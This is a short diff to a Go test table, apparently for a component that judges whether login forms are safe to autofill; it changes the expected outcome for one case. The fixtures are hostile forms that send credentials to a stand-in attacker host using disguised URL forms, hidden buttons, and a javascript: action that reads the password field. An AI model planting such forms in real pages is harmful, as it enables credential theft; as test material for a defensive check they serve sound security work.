@@ -106,7 +106,7 @@ func (p *Portal) forms() []trick {
 		{name: "action-userinfo", says: no, html: to(strings.Replace(evil, "https://", "https://portal.acme.test@", 1) + "/collect")},
 		{name: "action-backslash", says: no, html: to(strings.Replace(evil, "https://", `https:\\`, 1) + "/collect")},
 		{name: "action-protocol", says: no, html: to(strings.TrimPrefix(evil, "https:") + "/collect")},
-		{name: "action-script", says: no, html: p.thief() + to(`javascript:steal(document.querySelector('#p').value)`)},
+		{name: "action-script", says: "unknown_form|needs_fill", html: p.thief() + to(`javascript:steal(document.querySelector('#p').value)`)},
 		{name: "action-data", says: no, html: to(`data:text/html,x`)},
 		{name: "formaction", says: no, html: strings.Replace(plain, "<button>", `<button formaction="`+evil+`/collect">`, 1)},
 		{name: "formaction-of-a-hidden-button", gets: Perhaps, says: "unknown_form|signed_in", html: strings.Replace(plain, "<label>User", `<button style="display:none" formaction="`+evil+`/collect">x</button><label>User`, 1)},
